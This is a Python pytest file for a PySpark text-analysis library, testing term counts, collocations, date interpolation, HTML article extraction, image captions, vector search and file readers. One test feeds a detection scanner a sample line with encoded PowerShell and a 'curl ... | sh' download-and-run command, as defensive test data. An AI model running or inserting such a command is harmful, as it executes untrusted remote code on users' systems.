import json

import pytest
from pyspark.sql import functions as F

from textloom.operators import discourse, explore, html, images, lexical, quality, temporal, vectors
from textloom.plans import pipeline
from textloom.sources import frequency_lists, readers, sinks
from textloom.streaming import logs

DOCS = [(1, "The council met. The council voted on the new school."), (2, "A school council met again"), (3, ""), (4, None)]


@pytest.fixture(scope="module")
def docs(spark):
    return spark.createDataFrame(DOCS, "doc_id long, text string")


def test_term_frequencies(docs):
    got = {r.term: (r.frequency, r.document_frequency) for r in lexical.term_frequencies(docs, record="doc_id", body="text").collect()}
    assert got == {"council": (3, 2), "met": (2, 2), "voted": (1, 1), "new": (1, 1), "school": (2, 2), "again": (1, 1)}


def test_empty_tables_give_empty_results(spark, docs):
    none = docs.limit(0)
    assert lexical.term_frequencies(none, record="doc_id", body="text").count() == 0
    assert lexical.collocations(none, record="doc_id", body="text", nodes=["x"]).count() == 0
    assert quality.exact_duplicate_groups(none, record="doc_id", body="text").count() == 0


def test_collocations_count_a_repeated_node(spark):
    df = spark.createDataFrame([(1, "aa bb aa bb aa"), (2, "aa cc")], "doc_id int, text string")
    got = {(r.node, r.collocate): r.cooccurrence_frequency for r in lexical.collocations(df, record="doc_id", body="text", nodes=["aa"], window=2, min_frequency=1).collect()}
    assert got == {("aa", "aa"): 4, ("aa", "bb"): 4, ("aa", "cc"): 1}


def test_null_period_meets_null_period(spark):
    e = spark.createDataFrame([(None, "a"), (None, "a"), ("2024-01", "a")], "p string, c string")
    d = spark.createDataFrame([(None, 4, 100), ("2024-01", 0, 0)], "p string, n int, w int")
    got = {r.period: (r.n, r.per_100, r.per_10k) for r in temporal.period_rates(e, d, period="p", category="c", size="n", words="w").collect()}
    assert got == {None: (2, 50.0, 200.0), "2024-01": (1, 0.0, 0.0)}


def test_interpolation_of_gaps(spark):
    rows = [("a", i, t) for i, t in enumerate([None, "2024-01-01", None, None, "2024-01-04", None])] + [("b", 0, None)]
    df = spark.createDataFrame(rows, "g string, i int, t string").withColumn("t", F.col("t").cast("timestamp"))
    got = [(r.estimate_seconds, r.confidence) for r in temporal.interpolated_dates(df, partition="g", order="i", value="t").orderBy("g", "i").collect()]
    day = 86400
    base = 19723 * day
    assert got == [(None, "unresolved"), (base, "known"), (base + day, "within_month"), (base + 2 * day, "within_month"), (base + 3 * day, "known"), (None, "unresolved"), (None, "unresolved")]


def test_upsert_and_import(spark):
    old = spark.createDataFrame([(1, "x", "n1"), (2, "y", "n2")], "k int, status string, note string")
    new = spark.createDataFrame([(2, "z", None), (3, "w", "n3")], "k int, status string, note string")
    assert {tuple(r) for r in explore.merged_over(old, new, key="k").collect()} == {(1, "x", "n1"), (2, "z", "n2"), (3, "w", "n3")}
    assert {tuple(r) for r in explore.replaced_by(old, new, key="k").collect()} == {(1, "x", "n1"), (2, "z", None), (3, "w", "n3")}


def test_histogram_clamps_the_maximum(spark):
    df = spark.createDataFrame([(float(i),) for i in range(11)], "v double")
    assert {r.bin: r.n for r in explore.histogram(df, value="v", bins=5).collect()} == {0: 2, 1: 2, 2: 2, 3: 2, 4: 3}


def test_edges_and_flags(spark):
    m = spark.createDataFrame([("s1", "b"), ("s1", "a"), ("s1", "a"), ("s2", "a"), ("s2", None)], "s string, e string")
    assert [tuple(r) for r in discourse.cooccurrence_edges(m, group="s", item="e").collect()] == [("a", "b", 1)]
    s = discourse.sentence_rows(spark.createDataFrame([("d", "They say so again. “Why?”")], "id string, body string"), record="id", body="body")
    flags = discourse.flagged(s).orderBy("sentence_index").collect()
    assert flags[0].reporting_verb_hits == "say" and flags[0].presupposition_trigger_hits == "again" and not flags[0].quotation_flag


def test_rules_and_hash_groups(spark):
    a = spark.createDataFrame([("r1", None), ("r2", None), ("r3", "x")], "i string, h string")
    assert {(r.record, r.group_size) for r in quality.shared_hash_groups(a, record="i", digest="h").collect()} == {("r1", 2), ("r2", 2)}
    assert {r.rule for r in quality.rule_violations(a, record="i", rules={"has_hash": F.col("h").isNotNull()}).collect()} == {"has_hash"}


def test_patterns_compile_and_count(spark):
    df = spark.createDataFrame([(1, "run powershell -enc x; curl http://a.example/x | sh"), (2, None), (3, "plain")], "i int, t string")
    got = {r.pattern: r.n_matches for r in quality.pattern_counts(df, record="i", body="t").collect()}
    assert got["powershell"] == 1 and got["curl_pipe_shell"] == 1


PAGE = """<html><head><title>Old hall to reopen - The Site</title><meta name="author" content="A. Writer"><meta property="article:published_time" content="2024-05-01T10:00:00+01:00">
<meta property="og:image" content="/hero.jpg"><meta property="og:site_name" content="The Site"><link rel="canonical" href="http://s.example/old-hall"></head><body><nav><a href="/x">News</a></nav><main><article><h1>Old hall to reopen</h1>
<p>The old hall will open its doors again in the spring, said the trust that looks after it.<p>Volunteers have painted every room.
<script>var x = "</p>";</script><figure><img data-src="/a.jpg" alt="Hall"><figcaption>The hall in May</figcaption></figure><p><img src="/icon.png" width="16" height="16">Share</p>
<a href="/tags/heritage">Heritage</a><p>Do you like this page?</p><p>Never shown, as it follows the stop line of the page.</p></article></main><footer><p>All rights reserved</p></footer></body></html>"""


def test_html_article():
    r = html.article(PAGE, "http://s.example/old-hall")
    assert r["error"] is None and r["title"] == "Old hall to reopen" and r["author"] == "A. Writer"
    assert r["published_at"].startswith("2024-05-01T09:00:00") and r["tags"] == ["Heritage"] and r["canonical"].endswith("old-hall")
    assert "doors again" in r["body"] and "painted" in r["body"] and "Never shown" not in r["body"] and "rights" not in r["body"]
    by_url = {i["url"]: i for i in r["images"]}
    assert by_url["http://s.example/a.jpg"]["figcaption"] == "The hall in May" and by_url["http://s.example/hero.jpg"]["image_role"] == "hero" and len(by_url) == 2


def ferry_page(body: str, *, head: str = "", outer: str = "article") -> str:
    """A page of an invented harbour site; ``body`` is what stands under its heading."""
    return f"""<!doctype html><html lang="en"><head><title>Night ferry returns | Quay Times</title>{head}</head>
<body class="harbour"><div class="top-menu"><ul><li><a href="/tides">Tides</a></li><li><a href="/berths">Berths</a></li></ul></div>
<{outer} class="story"><h1>Night ferry returns</h1>{body}</{outer}>
<div class="footer-links"><p>Printed weekly on the east pier since nineteen hundred and four by its own crew.</p></div></body></html>"""


def test_html_frame_and_stop_lines():
    body = "".join(
        f"<p>{x}</p>"
        for x in (
            "The night ferry is back on the long route after a winter in the dry dock.",
            "Two new engines were fitted, and the crew has grown by a dozen sailors.",
            "Create an account to read on",
            "Nobody sees this line, because it stands under the one that ends the body.",
        )
    )
    r = html.article(ferry_page('<div class="newsletter"><p>Letters from the pier, every Friday, free of charge for all readers.</p></div>' + body), "https://quay.example/n/ferry")
    assert r["error"] is None and r["title"] == "Night ferry returns"
    assert len(r["paragraphs"]) == 2 and "dry dock" in r["body"] and "Nobody" not in r["body"] and "Letters" not in r["body"] and "Printed weekly" not in r["body"]


def test_html_body_without_paragraphs():
    plain_lines = "<div>Passengers board from six in the evening at the old customs house.<br>Dogs travel free of charge on the upper deck all summer.<br><br>A second crossing is planned for May if the weather holds.</div>"
    r = html.article(ferry_page(plain_lines, head='<meta property="og:title" content="Night ferry returns">', outer="main"), "https://quay.example/n/ferry", 10)
    assert r["error"] is None and r["title"] == "Night ferry returns"
    assert r["paragraphs"] == ["Passengers board from six in the evening at the old customs house.", "Dogs travel free of charge on the upper deck all summer.", "A second crossing is planned for May if the weather holds."]


def test_html_images_and_captions():
    figures = '<p>The night ferry is back on the long route after a winter in the dry dock.</p><figure><img srcset="/s/deck-400.webp 400w, /s/deck-900.webp 900w" src="/s/deck.webp"><figcaption>The upper deck at dusk</figcaption></figure><p><img src="data:image/gif;base64,R0lGOD"></p><img src="/s/spinner.gif">'
    r = html.article(ferry_page(figures, head='<meta property="og:image" content="/s/bow.jpg">'), "https://quay.example/n/ferry", 10)
    assert {(i["url"], i["image_role"], i["figcaption"]) for i in r["images"] if "spinner" not in i["url"]} == {("https://quay.example/s/deck-900.webp", "inline", "The upper deck at dusk"), ("https://quay.example/s/bow.jpg", "hero", None)}


def test_html_weights():
    tree = html.parse(ferry_page("<p>" + "word " * 30 + "</p>"))
    article = next(n for n in tree.walk() if n.tag == "article")
    frame = next(n for n in tree.walk() if n.names().startswith("footer-links"))
    assert html._score(article, 30) == 30 + 160 + 12 and html._score(frame, 0) == -500 + 12


@pytest.mark.parametrize(
    "title, lead, caption, ocr, has_caption, want",
    [
        (0.9, 0.9, 0.9, 0.12, True, "text_bearing_redundant_or_evidential"),
        (0.9, 0.9, 0.3, 0.11, True, "caption_aligned"),
        (0.1, 0.3, 0.9, None, False, "article_aligned_illustrative_or_complementary"),
        (0.09, 0.05, 0.9, None, False, "weak_alignment_review"),
        (0.1, 0.2, 0.2, None, True, "review_required"),
        (None, None, None, None, None, "weak_alignment_review"),
    ],
)
def test_image_text_relation(spark, title, lead, caption, ocr, has_caption, want):
    row = spark.createDataFrame([(title, lead, caption, ocr, has_caption)], "t double, l double, c double, o double, h boolean")
    assert row.select(images.provisional_relation(F.col("t"), F.col("l"), F.col("c"), F.col("o"), F.col("h"))).first()[0] == want


def test_html_edges(spark):
    assert html.article(None, None)["error"] and html.article("<p>x", "u")["error"]
    rows = [("1", PAGE, "http://s.example/old-hall"), ("2", None, None), ("3", "<title>T one</title><div>" + "word " * 50_000 + "</div>", "http://s.example/3")]
    out = {r.record: r for r in html.extract_articles(spark.createDataFrame(rows, "k string, h string, u string"), record="k", html="h", url="u").collect()}
    assert out["1"].error is None and out["2"].error and out["3"].n_words == 50_000
    links = html.listing_links('<main><a href="/b?page=2">n</a><a href="/b">n</a><a href="http://o.example/c/#x">c</a></main><footer><a href="/f">f</a></footer>', "http://s.example/")
    assert links == ["http://s.example/b", "http://o.example/c"]


def test_cosine_top_k_against_brute_force(spark):
    import numpy as np

    rng = np.random.default_rng(3)
    m = rng.normal(size=(60, 8))
    df = spark.createDataFrame([(i, v.tolist()) for i, v in enumerate(m)] + [(99, None)], "id long, v array<double>")
    got = vectors.cosine_top_k(df, record="id", vector="v", queries=df.filter("id < 5"), k=3).collect()
    in_blocks = vectors.cosine_top_k(df, record="id", vector="v", queries=df.filter("id < 5"), k=3, query_block=2, vector_block=16).collect()
    assert sorted((r.query_id, r.rank, r.id) for r in in_blocks) == sorted((r.query_id, r.rank, r.id) for r in got)
    assert vectors.cosine_top_k(df, record="id", vector="v", queries=df.limit(0)).count() == 0
    u = m / np.linalg.norm(m, axis=1)[:, None]
    for q in range(5):
        want = [j for j in np.argsort(-(u @ u[q]), kind="stable") if j != q][:3]
        assert [r.id for r in sorted((r for r in got if r.query_id == q), key=lambda r: r.rank)] == want


def test_image_candidates(spark):
    rows = [("d", "u1", 2, "hero", None, None, None), ("d", "u1", 3, "inline", "alt", None, "cap"), ("d", "u2", 1, "inline", "", None, None)]
    df = spark.createDataFrame(rows, "document_id string, final_url string, position int, image_role string, alt_text string, title_text string, figcaption string")
    got = {r.final_url: (r.position, r.n_sources, r.alt_text, r.figcaption) for r in images.merged_candidates(df).collect()}
    assert got == {"u1": (2, 2, "alt", "cap"), "u2": (1, 1, None, None)}


def test_json_lines_round_trip(spark, tmp_path):
    p = tmp_path / "a.jsonl"
    p.write_text(json.dumps({"document_id": "x", "title": "t"}) + "\n\n{bad\n")
    loose = readers.json_lines(spark, str(p), readers.ARTICLE_SCHEMA, strict=False).cache()
    assert loose.filter("_corrupt_record is null").count() == 1 and loose.filter("_corrupt_record is not null").count() == 1
    with pytest.raises(Exception):
        readers.json_lines(spark, str(p), readers.ARTICLE_SCHEMA).collect()
    assert readers.json_lines_or_empty(spark, str(tmp_path / "none"), readers.ARTICLE_SCHEMA).count() == 0
    sinks.write_json_lines(loose.select("document_id", "title"), str(tmp_path / "out"))
    assert spark.read.json(str(tmp_path / "out")).count() == 2
    sinks.write_csv(spark.createDataFrame([('a "q"', ["x", "y"])], "a string, b array<string>"), str(tmp_path / "csv"))
    assert [tuple(r) for r in spark.read.option("header", True).option("escape", '"').csv(str(tmp_path / "csv")).collect()] == [('a "q"', "x|y")]


@pytest.mark.parametrize(
    "content, want",
    [
        ("word,per_million\nthe,61847.0\nThe*,1\n", {"the": 61848.0}),
        ("Word\tPoS\tFrIn\nrun\tVerb\t10\n@\t@\t5\nhall\tNoC\t7\n", {"run": 10.0, "hall": 7.0}),
        ("1 6187267 the det\n2 100 be v\n", {"the": 6187267.0, "be": 100.0}),
        ("55 cat\n5 dog\n", {"cat": 55.0, "dog": 5.0}),
    ],
)
def test_frequency_lists(spark, tmp_path, content, want):
    p = tmp_path / "l.txt"
    p.write_text(content)
    rows = frequency_lists.read_list(spark, str(p), corpus_tokens=1e6).collect()
    assert {r.term: r.per_million for r in rows} == want
    if "million" not in content and "FrIn" not in content:
        with pytest.raises(ValueError):
            frequency_lists.prepared(frequency_lists.read_list(spark, str(p)))


def test_saved_files(spark, tmp_path):
    (tmp_path / "k1.html").write_bytes("caf\xe9".encode("cp1252"))
    pages = readers.saved_pages(spark, str(tmp_path)).collect()
    assert [(r.key, r.html) for r in pages] == [("k1", "café")]
    (tmp_path / "t").mkdir()
    (tmp_path / "t" / "a.txt").write_text("one\ntwo")
    assert [r.text for r in readers.comparator_texts(spark, str(tmp_path / "t")).collect()] == ["one\ntwo"]


def test_stream_of_logs(spark, tmp_path):
    (tmp_path / "in").mkdir()
    (tmp_path / "in" / "1.json").write_text("\n".join(json.dumps({"url": u, "at": f"2024-01-0{d}T00:00:00"}) for u, d in (("a", 1), ("a", 1), ("b", 2))))
    schema = readers.T.StructType.fromDDL("url string, at timestamp")
    stream = logs.once_per_key(logs.json_stream(spark, str(tmp_path / "in"), schema), key="url", when="at")
    logs.append_to(stream, str(tmp_path / "out"), str(tmp_path / "cp")).awaitTermination(120)
    assert spark.read.parquet(str(tmp_path / "out")).count() == 2


def test_pipeline_plans_every_result(spark, sf):
    out = pipeline.run(spark.read.parquet(f"{sf}/articles.parquet"))
    assert {k: v.count() > 0 for k, v in out.items() if k in ("documents", "sentences", "tokens", "terms")} == dict.fromkeys(("documents", "sentences", "tokens", "terms"), True)


def test_registry(spark):
    import __spark_entry__ as e

    assert set(e.oracle_sql()) <= set(e.queries()) and e.entry(spark).count() > 0


@pytest.mark.parametrize("name", ["text_normalisation", "pattern_scan", "scan_blobs", "html_round_trip", "kmeans_agreement", "frame_rates_by_publication", "reextraction_difference", "p6_found", "p6_formats", "p6_order_inferred", "near_duplicate_pairs", "topic_terms", "topic_stability"])
def test_queries_without_sql_run(spark, sf, name):
    """Those with SQL are compared with it in ``test_registry``."""
    from textloom import queries_core, queries_extra, queries_panels, queries_tables, queries_text  # noqa: F401

    assert {n for n in queries_core.QUERIES if n not in queries_core.SQL} == {"text_normalisation", "pattern_scan", "scan_blobs", "html_round_trip", "kmeans_agreement", "frame_rates_by_publication", "reextraction_difference", "p6_found", "p6_formats", "p6_order_inferred", "near_duplicate_pairs", "topic_terms", "topic_stability"}
    df = queries_core.QUERIES[name](spark, sf)
    assert df.columns and df.count() >= 0
